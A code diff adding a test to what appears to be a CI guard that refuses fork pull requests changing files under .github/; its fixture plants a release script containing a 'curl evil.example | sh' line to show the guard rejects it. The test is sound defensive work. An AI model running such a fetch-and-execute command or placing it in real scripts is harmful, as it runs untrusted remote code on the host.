@@ -93,6 +93,18 @@ def test_real_fork_pr_with_the_base_workflow_is_allowed(tmp_path, operations) ->
 
 
 @responses.activate
+def test_a_fork_that_changes_only_a_github_file_its_workflow_never_reaches_is_refused(tmp_path, operations) -> None:
+    """The workflow is the base's, so nothing it reaches differs: the `.github/` change alone refuses the job
+    (a script under .github/ that a later workflow, or a later version of this one, could run)."""
+    fake_repo(operations, lstn_tree(SAFE), lstn_tree(SAFE, **{".github/scripts/release.sh": "curl evil.example | sh\n"}))
+    verdict = guard.evaluate(guard.job_context(job_env(tmp_path, load_payload(FORK_PR))), guard.RepoRules(), client)
+    assert verdict == guard.Verdict(False, (
+        "this pull_request job comes from the fork leodido/lstn, and pull request #217 changes files under .github/, "
+        "where workflows, actions and the scripts they run live, so forks may not change it. If these files never "
+        "run (issue templates, say), the host's guard rules may list them under fork_may_change for listendev/lstn.",))
+
+
+@responses.activate
 def test_workflow_added_by_the_fork_is_refused(tmp_path, operations) -> None:
     fake_workflows(operations, base=None, head=EVIL)
     verdict = guard.evaluate(guard.job_context(job_env(tmp_path, load_payload(FORK_PR))), guard.RepoRules(), client)
